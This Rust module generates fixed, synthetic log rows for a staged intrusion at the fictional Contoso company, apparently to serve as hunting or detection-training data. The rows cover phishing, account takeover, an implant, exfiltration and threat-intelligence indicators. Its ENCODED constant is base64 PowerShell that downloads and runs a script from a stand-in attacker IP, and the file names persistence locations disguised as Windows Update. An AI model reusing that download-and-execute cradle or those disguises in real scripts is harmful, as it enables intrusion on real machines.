//! The attack story: phishing and password spray → account takeover (MFA method, inbox rule,
//! directory reconnaissance through Graph) → a macro, encoded PowerShell and an implant on the
//! victim's workstation (persistence, reconnaissance, beaconing) → lateral movement to the file
//! server → exfiltration → credential theft, a second foothold and, after containment, the
//! attacker's return to prepare ransomware (see `impact`). Fixed rows, the same for every seed and
//! size.

mod access;
mod impact;
mod intrusion;
mod response;

use serde_json::json;

use super::org::{Org, User};
use super::rows::Place;
use super::{Gen, HOUR, MINUTE, Rng, boolean, dt, file_hashes, int, real, s};

pub(super) const ATTACKER_IP: &str = "203.0.113.57";
pub(super) const C2_IP: &str = "203.0.113.88";
pub(super) const EXFIL_IP: &str = "203.0.113.201";
pub(super) const VICTIM: &str = "mbrown";
pub(super) const VICTIM_UPN: &str = "mbrown@contoso.com";
pub(super) const VICTIM_HOST: &str = "wks-014";
pub(super) const SERVER: &str = "srv-fs01";
pub(super) const DROPPED_BINARY: &str = "wuauhelper.exe";
pub(super) const INCIDENT_NUMBER: i32 = 1042;
pub(super) const PHISH_DOMAIN: &str = "contoso-helpdesk.example";
pub(super) const C2_DOMAIN: &str = "cdn-update.example";
pub(super) const EXFIL_DOMAIN: &str = "s3.storage-sync.example";

const ATTACKER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36";
const AZUREHOUND_UA: &str = "azurehound/v2.1.7";
const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA4ADgALwB1AHAAZABhAHQAZQAuAHAAcwAxACcAKQA=";
const DROP_DIR: &str = "C:\\ProgramData\\Microsoft\\WinUpdate";
const PHISH_URL: &str = "https://contoso-helpdesk.example/reset?user=";
const RUN_KEY: &str = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run";
const TASK_NAME: &str = "\\Microsoft\\Windows\\WinUpdateHelper";

/// Hours and minutes before now.
const fn ago(hours: i64, minutes: i64) -> i64 {
    hours * HOUR + minutes * MINUTE
}

const PHISH: i64 = ago(76, 0);
const CLICK: i64 = ago(75, 41);
const ZAP: i64 = ago(75, 20);
const SPRAY_1: i64 = ago(72, 0);
const SPRAY_2: i64 = ago(71, 0);
const TAKEOVER: i64 = ago(70, 30);
const MFA_REGISTERED: i64 = ago(70, 22);
const GRAPH_RECON: i64 = ago(70, 18);
const INBOX_RULE: i64 = ago(70, 10);
const INVOICE: i64 = ago(50, 0);
const MACRO: i64 = ago(49, 50);
const LATERAL: i64 = ago(47, 5);
const RDP: i64 = ago(46, 50);
const STAGING: i64 = ago(26, 10);
const EXFIL: i64 = ago(26, 0);
const MASS_DOWNLOAD: i64 = ago(25, 0);

pub(super) const DESCRIPTION: &str = include_str!("story.md");

/// One version of the story's incident: alerts so far, title, severity, status, owner, comments.
type StoryVersion<'a> = (
    usize,
    &'a str,
    &'a str,
    &'a str,
    Option<&'a User>,
    &'a [(&'a str, i64)],
);

/// Where the attacker signs in from.
const ATTACKER: Place<'static> = Place {
    ip: ATTACKER_IP,
    city: "Amsterdam",
    state: "Noord-Holland",
    country: "NL",
    lat: 52.3676,
    lon: 4.9041,
    asn: 64_500,
};

/// Writes the story's rows; returns the SystemAlertIds of its alerts in stage order.
pub(super) fn write(g: &mut Gen, org: &Org) -> Vec<String> {
    let mut rng = Rng::new(0x5707_2026);
    let now = g.now;
    let at = |ago: i64| now - ago;
    let rng = &mut rng;
    // The phishing mails' cluster; the invoice's is the next.
    let cluster = 7_204_311_i64;

    access::write(g, org, rng, at, cluster);
    let encoded = intrusion::write(g, org, rng, at, cluster);

    impact::write(g, org, rng, at);

    threat_intelligence(g, rng, at(ago(90, 0)));

    response::write(g, org, rng, at, &encoded)
}

/// The victim as the target of a directory change, with the properties it modified.
fn target(victim: &User, props: serde_json::Value) -> serde_json::Value {
    json!([{"id": victim.object_id, "displayName": null, "type": "User",
            "userPrincipalName": victim.upn, "modifiedProperties": props}])
}

/// One AADRiskyUsers row: `(RiskLevel, RiskState, RiskDetail)` of a user at `time`.
pub(super) fn risky_user(
    g: &mut Gen,
    u: &User,
    time: i64,
    (level, state, detail): (&str, &str, &str),
) {
    g.push(
        "AADRiskyUsers",
        [
            ("TimeGenerated", dt(time)),
            ("Id", s(&u.object_id)),
            ("CorrelationId", s(&u.object_id)),
            ("IsDeleted", boolean(false)),
            ("IsProcessing", boolean(false)),
            ("OperationName", s("Risky user")),
            ("RiskDetail", s(detail)),
            ("RiskLastUpdatedDateTime", dt(time)),
            ("RiskLevel", s(level)),
            ("RiskState", s(state)),
            ("SourceSystem", s("Azure AD")),
            ("UserDisplayName", s(&u.display_name)),
            ("UserPrincipalName", s(&u.upn)),
        ],
    );
}

/// A name lookup answered by the domain controller's DNS server (DnsEvents).
pub(super) fn dns_lookup(
    g: &mut Gen,
    _rng: &mut Rng,
    time: i64,
    client: &str,
    name: &str,
    answer: &str,
) {
    g.push(
        "DnsEvents",
        [
            ("TimeGenerated", dt(time)),
            ("SourceSystem", s("OpsManager")),
            ("Computer", s("srv-dc01.contoso.com")),
            ("EventId", int(256)),
            ("SubType", s("LookupQuery")),
            ("ClientIP", s(client)),
            ("Name", s(name)),
            ("QueryType", s("A")),
            ("IPAddresses", s(answer)),
            ("Result", s("Success")),
            ("ResultCode", int(0)),
            ("TaskCategory", s("Lookup")),
            (
                "Message",
                s(format!("Query received from {client} for {name} (A)")),
            ),
        ],
    );
}

/// The attacker's infrastructure in the threat intelligence feed.
fn threat_intelligence(g: &mut Gen, rng: &mut Rng, time: i64) {
    let (_, sha256, _) = file_hashes(DROPPED_BINARY);
    let indicators: [(&str, &str, &str, &str); 7] = [
        (
            "NetworkIP",
            ATTACKER_IP,
            "password spray and phishing infrastructure",
            "Phishing",
        ),
        ("NetworkIP", C2_IP, "command and control server", "C2"),
        ("NetworkIP", EXFIL_IP, "data exfiltration endpoint", "C2"),
        (
            "DomainName",
            PHISH_DOMAIN,
            "credential phishing domain",
            "Phishing",
        ),
        ("DomainName", C2_DOMAIN, "command and control domain", "C2"),
        (
            "Url",
            "http://203.0.113.88/update.ps1",
            "PowerShell stager",
            "MaliciousUrl",
        ),
        (
            "FileHashValue",
            &sha256,
            "wuauhelper.exe implant",
            "Malware",
        ),
    ];
    for (k, (kind, value, description, threat)) in indicators.into_iter().enumerate() {
        let ingested = time + k as i64 * MINUTE;
        let mut fields = vec![
            ("TimeGenerated", dt(ingested)),
            ("SourceSystem", s("SecurityGraph")),
            ("Action", s("alert")),
            ("Active", boolean(true)),
            ("ActivityGroupNames", s("Storm-0000")),
            ("ConfidenceScore", real(85.0)),
            ("Description", s(description)),
            ("ExpirationDateTime", dt(ingested + 90 * 24 * HOUR)),
            (
                "ExternalIndicatorId",
                s(format!("indicator--{}", rng.guid_string())),
            ),
            ("IndicatorId", s(rng.hex(64))),
            ("IndicatorProvider", s("Microsoft Threat Intelligence")),
            ("ThreatSeverity", int(4)),
            ("ThreatType", s(threat)),
            ("TrafficLightProtocolLevel", s("amber")),
            ("Tags", s("[\"contoso-hunt\"]")),
            ("KillChainC2", boolean(threat == "C2")),
            ("KillChainDelivery", boolean(threat == "Phishing")),
        ];
        match kind {
            "NetworkIP" => fields.push(("NetworkIP", s(value))),
            "DomainName" => fields.push(("DomainName", s(value))),
            "Url" => fields.push(("Url", s(value))),
            _ => {
                fields.push(("FileHashValue", s(value)));
                fields.push(("FileHashType", s("SHA256")));
                fields.push(("FileName", s(DROPPED_BINARY)));
            }
        }
        g.push("ThreatIntelligenceIndicator", fields);
    }
}

/// The story's SystemAlertIds (they depend on nothing but the story's fixed seed).
#[cfg(test)]
pub(super) fn alert_ids() -> Vec<String> {
    write(&mut Gen::new(0, super::Keep::Count), &Org::new())
}
